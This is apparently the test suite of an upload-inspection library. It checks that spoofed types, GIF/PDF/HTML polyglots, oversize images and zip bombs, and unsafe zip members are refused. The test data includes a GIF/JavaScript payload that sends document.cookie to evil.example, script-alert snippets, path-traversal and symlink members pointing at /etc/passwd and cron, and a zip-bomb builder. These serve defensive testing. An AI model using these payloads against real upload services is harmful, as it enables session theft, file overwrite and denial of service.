"""Family E at the library level: types by magic bytes, spoofing, polyglots, sizes, archives."""

import io
import stat
import zipfile

import pytest
from django.conf import settings

from uploads.exceptions import UploadRefused
from uploads.inspection import upload_inspect

from .files import (
    EXE,
    HTML,
    MP4,
    PCAP,
    PCAPNG,
    PDF,
    SVG,
    WEBM,
    ReadLimitedFile,
    image_bytes,
    png_with_dimensions,
    upload,
    zip_bytes,
)


def refused(name, data, feature="document"):
    with pytest.raises(UploadRefused) as excinfo:
        upload_inspect(upload(name, data), feature=feature)
    return excinfo.value


# --- What each feature accepts ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("guide.pdf", PDF, "application/pdf"),
        ("notes.txt", "Nmap – quick reference ✓\n".encode(), "text/plain"),
        ("lesson.md", b"# XSS\n\nNever trust `<script>` in input.\n", "text/markdown"),
        ("hosts.csv", b"host,port\n10.0.0.1,22\n", "text/csv"),
        ("rules.json", b'{"rules": [1, 2, 3]}', "application/json"),
        ("lab.zip", zip_bytes({"lab/readme.txt": b"hello", "lab/index.html": b"<html></html>"}), "application/zip"),
        ("capture.pcap", PCAP + b"GET / HTTP/1.1\r\n\r\n<html><script>", "application/vnd.tcpdump.pcap"),
        ("capture.pcapng", PCAPNG, "application/octet-stream"),
        ("intro.mp4", MP4, "video/mp4"),
        ("intro.webm", WEBM, "video/webm"),
    ],
)
def test_documents_of_every_allowed_type_are_accepted(name, data, content_type):
    inspected = upload_inspect(upload(name, data), feature="document")
    assert inspected.content_type == content_type
    assert inspected.size == len(data)


def test_document_policy_matches_wagtails_extension_list():
    document_types = settings.UPLOAD_POLICIES["document"]["types"]
    assert sorted(document_types) == sorted(settings.WAGTAILDOCS_EXTENSIONS)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.png", image_bytes("PNG")),
        ("a.jpg", image_bytes("JPEG")),
        ("a.jpeg", image_bytes("JPEG")),
        ("a.gif", image_bytes("GIF")),
        ("a.webp", image_bytes("WEBP")),
    ],
)
def test_images_of_every_allowed_type_are_accepted(name, data):
    assert upload_inspect(upload(name, data), feature="image").file_type.key in {"png", "jpeg", "gif", "webp"}


@pytest.mark.parametrize(
    "name", ["payload.exe", "page.html", "drawing.svg", "script.js", "noextension", "archive.tar.gz"]
)
def test_extensions_outside_the_allowlist_are_refused(name):
    error = refused(name, PDF)
    assert error.code == "type_not_allowed"
    assert ".pdf" in error.message  # the uploader is told what is accepted


def test_svg_is_refused_as_an_image():
    assert refused("logo.svg", SVG, feature="image").code == "type_not_allowed"
    error = refused("logo.png", SVG, feature="image")
    assert error.code == "type_mismatch"
    assert "SVG" in error.message


# --- Type spoofing ------------------------------------------------------------------------------


def test_windows_program_renamed_pdf_is_refused_and_named():
    error = refused("invoice.pdf", EXE)
    assert error.code == "type_mismatch"
    assert error.message == "The file is not a PDF document: its contents are a Windows program."


def test_html_renamed_pdf_is_refused():
    error = refused("report.pdf", HTML)
    assert error.code == "type_mismatch"
    assert "web page" in error.message


def test_png_named_jpg_is_refused():
    error = refused("photo.jpg", image_bytes("PNG"), feature="image")
    assert error.code == "type_mismatch"
    assert "PNG image" in error.message


@pytest.mark.parametrize("name", ["notes.txt", "data.csv", "lesson.md", "rules.json"])
def test_program_renamed_as_text_is_refused(name):
    assert refused(name, EXE).code == "type_mismatch"


def test_zip_renamed_mp4_is_refused():
    assert refused("intro.mp4", zip_bytes({"a.txt": b"a"})).code == "type_mismatch"


# --- Polyglots and broken structure --------------------------------------------------------------


def test_gif_carrying_a_script_is_refused():
    # A valid GIF whose comment extension holds HTML: a GIF/HTML polyglot.
    gif = image_bytes("GIF", comment=b"<script>alert(document.domain)</script>")
    error = refused("cat.gif", gif, feature="image")
    assert error.code == "polyglot"


def test_gif_header_followed_by_javascript_is_refused():
    # The classic GIF/JS polyglot: "GIF89a" is also the start of a JavaScript expression.
    gif_js = b"GIF89a/*\x00\x00\x00\x00*/=1;fetch('//evil.example/'+document.cookie);"
    assert refused("avatar.gif", gif_js, feature="image").code == "structure_invalid"


def test_pdf_with_an_html_header_is_refused():
    assert refused("guide.pdf", b"<html><script>alert(1)</script></html>\n" + PDF).code == "type_mismatch"


def test_pdf_carrying_html_in_its_head_is_refused():
    polyglot = b"%PDF-1.4\n%<html><body><script>alert(1)</script>\n" + PDF
    assert refused("guide.pdf", polyglot).code == "polyglot"


def test_pdf_without_an_end_marker_is_refused():
    assert refused("guide.pdf", b"%PDF-1.4\n1 0 obj\n").code == "structure_invalid"


def test_png_that_pillow_cannot_verify_is_refused():
    broken = image_bytes("PNG")[:40] + b"\x00" * 40
    assert refused("photo.png", broken, feature="image").code == "structure_invalid"


def test_invalid_json_is_refused():
    assert refused("rules.json", b'{"rules": [1, 2').code == "structure_invalid"


def test_deeply_nested_json_is_refused_without_crashing():
    assert refused("deep.json", b"[" * 100_000 + b"]" * 100_000).code == "structure_invalid"


def test_empty_file_is_refused():
    assert refused("empty.pdf", b"").code == "empty"


# --- Sizes ---------------------------------------------------------------------------------------


def test_oversize_document_is_refused_before_a_byte_is_read():
    huge = ReadLimitedFile(
        "video.pdf", declared_size=settings.UPLOAD_POLICIES["document"]["max_size"] + 1, read_limit=0
    )
    with pytest.raises(UploadRefused) as excinfo:
        upload_inspect(huge, feature="document")
    assert excinfo.value.code == "too_large"
    assert huge.bytes_read == 0


def test_per_type_limit_is_smaller_than_the_feature_limit(settings):
    limit = settings.UPLOAD_POLICIES["document"]["type_max_size"]["pdf"]
    huge = ReadLimitedFile("guide.pdf", declared_size=limit + 1, read_limit=0)
    with pytest.raises(UploadRefused) as excinfo:
        upload_inspect(huge, feature="document")
    assert excinfo.value.code == "too_large"
    assert "100 MB" in excinfo.value.message


@pytest.mark.parametrize(("width", "height"), [(7_000, 7_000), (30_000, 30_000)])  # our limit; Pillow's bomb guard
def test_image_claiming_too_many_pixels_is_refused_without_decoding(width, height):
    error = refused("huge.png", png_with_dimensions(width, height), feature="image")
    assert error.code == "too_large"


# --- Zip archives --------------------------------------------------------------------------------


def declared_bomb(declared: int) -> bytes:
    """A zip whose central directory declares `declared` bytes of zeros; only 16 MiB are compressed.

    The member is streamed from a generator of 1 MiB chunks (nothing large is held or written);
    the recorded size is then raised to what a bomb would declare.
    """
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("zeros.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        chunks = (bytes(1024 * 1024) for _ in range(16))
        with archive.open(info, "w") as member:
            for chunk in chunks:
                member.write(chunk)
        archive.infolist()[0].file_size = declared  # written into the central directory on close
    return buffer.getvalue()


def test_zip_declaring_one_gigabyte_is_refused():
    bomb = declared_bomb(1024**3)
    assert len(bomb) < 100_000
    error = refused("lab.zip", bomb)
    assert error.code == "archive_too_large"


def test_zip_with_an_extreme_compression_ratio_is_refused():
    bomb = zip_bytes({"zeros.bin": bytes(16 * 1024 * 1024)})
    error = refused("lab.zip", bomb)
    assert error.code == "archive_ratio"


def test_zip_with_too_many_entries_is_refused(settings):
    settings.UPLOAD_ZIP_LIMITS = {**settings.UPLOAD_ZIP_LIMITS, "max_entries": 50}
    many = zip_bytes({f"f{i}.txt": b"x" for i in range(51)})
    assert refused("lab.zip", many).code == "archive_too_many_entries"


def test_zip_nested_once_is_accepted_and_twice_is_refused():
    inner = zip_bytes({"readme.txt": b"inner"})
    once = zip_bytes({"inner.zip": inner})
    upload_inspect(upload("lab.zip", once), feature="document")
    twice = zip_bytes({"middle.zip": zip_bytes({"inner.zip": inner})})
    assert refused("lab.zip", twice).code == "archive_nested"


def test_zip_holding_another_archive_format_is_refused():
    tarball = b"\x1f\x8b\x08\x00" + bytes(100)
    assert refused("lab.zip", zip_bytes({"data.bin": tarball})).code == "archive_nested"


@pytest.mark.parametrize(
    "member",
    ["../../etc/passwd", "lab/../../escape.txt", "/etc/cron.d/evil", "lab\\..\\evil.txt", "C:/Windows/evil.dll"],
)
def test_zip_member_names_that_could_escape_are_refused(member):
    assert refused("lab.zip", zip_bytes({member: b"x"})).code == "archive_unsafe_name"


def test_zip_member_name_with_a_nul_byte_is_refused():
    # zipfile cuts names at NUL when writing, so patch the bytes of both headers afterwards.
    archive = zip_bytes({"evilXpdf.exe": b"x"}).replace(b"evilXpdf", b"evil\x00pdf")
    assert refused("lab.zip", archive).code == "archive_unsafe_name"


def test_zip_with_a_symbolic_link_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    assert refused("lab.zip", buffer.getvalue()).code == "archive_link"


def test_damaged_zip_is_refused():
    assert refused("lab.zip", b"PK\x03\x04" + bytes(100)).code == "archive_invalid"
